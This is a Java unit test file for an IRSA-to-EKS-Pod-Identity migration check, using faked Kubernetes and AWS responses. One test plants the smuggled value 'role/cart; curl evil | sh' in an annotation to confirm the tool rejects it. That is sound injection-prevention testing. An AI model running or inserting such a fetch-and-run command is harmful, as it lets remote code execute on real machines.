package dev.podidentity.agent.doctor;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.Optional;
import org.junit.jupiter.api.Test;

class IrsaCheckTest {

    private static final String ACCOUNTS = "GET http://api.test/api/v1/serviceaccounts?limit=500";
    private static final String PODS = "GET http://api.test/api/v1/pods?limit=500";
    private static final String ASSOCIATIONS =
            "GET https://eks.us-west-2.amazonaws.com/clusters/prod/pod-identity-associations?maxResults=100";
    private static final String CART = "{\"metadata\":{\"namespace\":\"shop\",\"name\":\"cart\",\"annotations\":"
            + "{\"eks.amazonaws.com/role-arn\":\"arn:aws:iam::123456789012:role/cart\"}}}";
    private static final String PLAIN = "{\"metadata\":{\"namespace\":\"shop\",\"name\":\"default\"}}";
    private static final String PODS_OF_CART = "{\"items\":["
            + "{\"metadata\":{\"namespace\":\"shop\"},\"spec\":{\"serviceAccountName\":\"cart\",\"containers\":[{\"env\":["
            + "{\"name\":\"AWS_CONTAINER_CREDENTIALS_FULL_URI\",\"value\":\"x\"}]}]}},"
            + "{\"metadata\":{\"namespace\":\"shop\"},\"spec\":{\"serviceAccountName\":\"cart\"}},"
            + "{\"metadata\":{\"namespace\":\"other\"},\"spec\":{\"serviceAccountName\":\"cart\"}}]}";

    private final FakeWeb web = new FakeWeb();

    @Test
    void printsTheStepsInAnOrderWithoutAGap() {
        // Given
        web.answer(ACCOUNTS, 200, "{\"items\":[" + PLAIN + "," + CART + "]}")
                .answer(PODS, 200, PODS_OF_CART)
                .answer(ASSOCIATIONS, 200, "{\"associations\":[]}");

        // Then
        assertThat(examine(true)).singleElement().satisfies(finding -> {
            assertThat(finding.status()).isEqualTo(Status.WARN);
            assertThat(finding.seen()).isEqualTo("The service account shop/cart uses arn:aws:iam::123456789012:role/cart by"
                    + " IRSA, and has no"
                    + " association; 1 of its 2 pods have EKS Pod Identity injected");
            assertThat(finding.details()).hasSize(5);
            assertThat(finding.details().get(0)).startsWith("1. Add to the trust policy").endsWith(TrustPolicy.STATEMENT);
            assertThat(finding.details().get(1)).isEqualTo("2. aws eks create-pod-identity-association --cluster-name prod"
                    + " --namespace shop"
                    + " --service-account cart --role-arn arn:aws:iam::123456789012:role/cart");
            assertThat(finding.details().get(2)).isEqualTo(
                    "3. kubectl -n shop annotate serviceaccount cart eks.amazonaws.com/role-arn-");
            assertThat(finding.details().get(3)).startsWith("4. Create its pods again");
            assertThat(finding.details().get(4)).startsWith("5. When").contains("trust policy");
        });
    }

    @Test
    void leavesOutTheStepsThatAreDoneAndNamesWhoIsMoved() {
        // Given
        web.answer(ACCOUNTS, 200, "{\"items\":[" + CART + "]}")
                .answer(PODS, 200, "{\"items\":[]}")
                .answer(ASSOCIATIONS, 200, "{\"associations\":[{\"associationId\":\"a-1\",\"namespace\":\"shop\",\"serviceAccount\":\"cart\"}],"
                        + "\"nextToken\":\"a/b\"}")
                .answer(ASSOCIATIONS + "&nextToken=a%2Fb", 200,
                        "{\"associations\":[{\"associationId\":\"a-2\",\"namespace\":\"shop\",\"serviceAccount\":\"mail\"}]}");

        // When
        List<Finding> findings = examine(true);

        // Then
        assertThat(findings).extracting(Finding::status).containsExactly(Status.OK, Status.WARN);
        assertThat(findings.get(0).seen()).isEqualTo("Service accounts that use only EKS Pod Identity: shop/mail");
        assertThat(findings.get(1).seen()).contains("already has an association");
        assertThat(findings.get(1).details()).hasSize(3).first().asString().startsWith("1. kubectl -n shop annotate");
    }

    @Test
    void putsNoAnnotationIntoACommandThatIsNotTheArnOfARole() {
        web.answer(ACCOUNTS, 200, "{\"items\":[" + CART.replace("role/cart", "role/cart; curl evil | sh") + "]}")
                .answer(PODS, 200, PODS_OF_CART)
                .answer(ASSOCIATIONS, 200, "{\"associations\":[]}");

        assertThat(examine(true)).containsExactly(Finding.warn(
                "The annotation eks.amazonaws.com/role-arn of the service account shop/cart is not the ARN of a role",
                "Correct or remove the annotation"));
    }

    @Test
    void isContentWhereNobodyUsesIrsa() {
        web.answer(ACCOUNTS, 200, "{\"items\":[" + PLAIN + "]}").answer(ASSOCIATIONS, 200, "{\"associations\":[]}");

        assertThat(examine(true)).extracting(Finding::status).containsExactly(Status.OK);
    }

    @Test
    void readsAllPagesOfServiceAccounts() {
        web.answer(ACCOUNTS, 200, "{\"metadata\":{\"continue\":\"a=\"},\"items\":[" + PLAIN + "]}")
                .answer(ACCOUNTS + "&continue=a%3D", 200, "{\"metadata\":{\"continue\":\"\"},\"items\":[" + CART + "]}")
                .answer(PODS, 200, "{\"items\":[]}");

        assertThat(examine(false)).extracting(Finding::status).containsExactly(Status.SKIP, Status.WARN);
    }

    @Test
    void printsTheStepsThoughItMayNotSeePodsOrAssociations() {
        web.answer(ACCOUNTS, 200, "{\"items\":[" + CART + "]}").answer(PODS, 403, "{}").answer(ASSOCIATIONS, 403, "{}");

        assertThat(examine(true)).extracting(Finding::status).containsExactly(Status.SKIP, Status.SKIP, Status.WARN);
        assertThat(examine(true).get(2).seen()).isEqualTo("The service account shop/cart uses"
                + " arn:aws:iam::123456789012:role/cart by IRSA");
    }

    @Test
    void failsWhereServiceAccountsCannotBeListed() {
        web.answer(ACCOUNTS, 403, "{\"message\":\"serviceaccounts is forbidden\"}");

        assertThat(examine(false)).singleElement().satisfies(finding -> {
            assertThat(finding.status()).isEqualTo(Status.FAIL);
            assertThat(finding.seen()).contains("serviceaccounts is forbidden");
        });
    }

    private List<Finding> examine(boolean withAws) {
        return new IrsaCheck(
                PodChecksTest.kube(web),
                withAws ? Optional.of(AssociationCheckTest.aws(web, "us-west-2")) : Optional.empty(),
                Optional.of("prod")).examine();
    }
}
